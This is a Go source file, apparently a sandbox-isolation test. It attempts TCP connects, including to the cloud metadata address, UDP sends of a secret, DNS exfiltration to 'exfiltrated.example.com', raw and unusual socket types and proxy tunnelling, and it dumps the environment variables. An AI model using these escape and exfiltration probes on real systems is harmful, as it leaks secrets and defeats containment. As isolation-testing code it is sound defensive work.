//go:build linux

package main

import (
	"bufio"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"sort"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

const waitTimeout = 700 * time.Millisecond

func dial(network, address string) error {
	c, err := net.DialTimeout(network, address, waitTimeout)
	if err == nil {
		c.Close()
	}
	return err
}

func connects() {
	for _, a := range []string{v.TCP, v.Public, "192.0.2.1:80", "169.254.169.254:80", "[::1]:80", "0.0.0.0:80"} {
		if a == "0.0.0.0:80" {
			a = "0.0.0.0" + v.TCP[strings.LastIndexByte(v.TCP, ':'):]
		}
		try("connect to "+a, dial("tcp", a))
	}
	_, err := net.Listen("tcp", "127.0.0.1:0")
	claims("listen", err)
}

func datagrams() {
	try("send a datagram", send(v.UDP, []byte(secret), true))
	try("send one to an outside address", send("192.0.2.1:9", []byte(secret), false))
	try("ask a name server", send(v.DNS, query("exfiltrated.example.com"), true))
	_, err := net.LookupHost("exfiltrated.example.com")
	if fault := (*net.DNSError)(nil); errors.As(err, &fault) && fault.IsNotFound {
		conf, _ := os.ReadFile("/etc/resolv.conf")
		if len(conf) > 0 {
			err = nil // a resolver answered that the name is unknown
		}
	}
	try("resolve a name", err)
}

func send(address string, data []byte, answered bool) error {
	c, err := net.DialTimeout("udp", address, waitTimeout)
	if err != nil {
		return err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(waitTimeout))
	if _, err := c.Write(data); err != nil || !answered {
		return err
	}
	_, err = c.Read(make([]byte, 512))
	return err
}

// query is a question for the address of a name.
func query(name string) []byte {
	b := []byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for label := range strings.SplitSeq(name, ".") {
		b = append(append(b, byte(len(label))), label...)
	}
	return append(b, 0, 0, 1, 0, 1)
}

func unixSockets() {
	try("connect to a pathname socket", dial("unix", v.Socket))
	try("connect to a pathname socket by a link", func() error {
		_ = os.Symlink(v.Socket, "socket")
		return dial("unix", "socket")
	}())
	try("connect to an abstract socket", dial("unix", "@"+v.Abstract))
	try("send to an abstract socket", dial("unixgram", "@"+v.Abstract))
}

func oddSockets() {
	for name, s := range map[string][3]int{
		"raw": {unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP}, "raw 6": {unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6}, "packet": {unix.AF_PACKET, unix.SOCK_RAW, 0x300},
		"packet datagram": {unix.AF_PACKET, unix.SOCK_DGRAM, 0x300}, "netlink": {unix.AF_NETLINK, unix.SOCK_RAW, 0}, "netfilter": {unix.AF_NETLINK, unix.SOCK_RAW, 12}, "vsock": {unix.AF_VSOCK, unix.SOCK_STREAM, 0},
		"alg": {unix.AF_ALG, unix.SOCK_SEQPACKET, 0}, "bluetooth": {unix.AF_BLUETOOTH, unix.SOCK_RAW, 1}, "xdp": {unix.AF_XDP, unix.SOCK_RAW, 0}, "can": {unix.AF_CAN, unix.SOCK_RAW, 1},
		"tipc": {unix.AF_TIPC, unix.SOCK_RDM, 0}, "key": {unix.AF_KEY, unix.SOCK_RAW, 2}, "sctp": {unix.AF_INET, unix.SOCK_SEQPACKET, 132}, "dccp": {unix.AF_INET, 6, 33}, "ping": {unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP},
		"mptcp": {unix.AF_INET, unix.SOCK_STREAM, 262}, "unix seqpacket": {unix.AF_UNIX, unix.SOCK_SEQPACKET, 0}, "raw with flags": {unix.AF_INET, unix.SOCK_RAW | unix.SOCK_NONBLOCK, unix.IPPROTO_RAW},
	} {
		fd, err := unix.Socket(s[0], s[1]|unix.SOCK_CLOEXEC, s[2])
		if err == nil {
			unix.Close(fd)
		}
		try("open a "+name+" socket", err)
	}
}

// fetches asks for each of Names: "direct HOST:PORT", "connect HOST:PORT", a
// "raw " request with \r\n written as ¶, or a URL through the proxy.
func fetches() {
	proxy := strings.TrimPrefix(os.Getenv("HTTP_PROXY"), "http://")
	for _, name := range v.Names {
		fmt.Printf("SAYS %s => %s\n", name, fetch(proxy, name))
	}
}

func fetch(proxy, name string) string {
	if to, ok := strings.CutPrefix(name, "direct "); ok {
		if err := dial("tcp", to); err != nil {
			return "refused " + cause(err)
		}
		return "connected"
	}
	request := ""
	if to, ok := strings.CutPrefix(name, "connect "); ok {
		request = "CONNECT " + to + " HTTP/1.1\r\nHost: " + to + "\r\n\r\n"
	} else if raw, ok := strings.CutPrefix(name, "raw "); ok {
		request = strings.ReplaceAll(raw, "¶", "\r\n")
	} else {
		host := strings.TrimPrefix(name, "http://")
		host, _, _ = strings.Cut(host, "/")
		request = "GET " + name + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n"
	}
	c, err := net.DialTimeout("tcp", proxy, waitTimeout)
	if err != nil {
		return "no proxy " + cause(err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(3 * time.Second))
	if _, err := io.WriteString(c, request); err != nil {
		return cause(err)
	}
	r := bufio.NewReader(c)
	status, err := r.ReadString('\n')
	if err != nil {
		return "closed"
	}
	if strings.Contains(status, " 200") && strings.HasPrefix(name, "connect ") {
		_, _ = io.WriteString(c, "GET / HTTP/1.0\r\nHost: tunnelled\r\n\r\n")
	}
	if half, ok := c.(*net.TCPConn); ok {
		_ = half.CloseWrite()
	}
	rest, _ := io.ReadAll(io.LimitReader(r, 4096))
	return strings.TrimSpace(status) + " | " + strings.NewReplacer("\r", "", "\n", " ").Replace(string(rest))
}

func environment() {
	list := os.Environ()
	sort.Strings(list)
	for _, kv := range list {
		fmt.Println("SAYS", kv)
	}
	data, _ := os.ReadFile("/proc/self/environ")
	for kv := range strings.SplitSeq(strings.TrimRight(string(data), "\x00"), "\x00") {
		if kv != "" {
			fmt.Println("SAYS", kv)
		}
	}
	for fd := 3; fd < 1024; fd++ {
		if flags, err := unix.FcntlInt(uintptr(fd), unix.F_GETFD, 0); err == nil && flags&unix.FD_CLOEXEC == 0 {
			say("BROKE", "inherit a descriptor", fd)
		}
	}
}
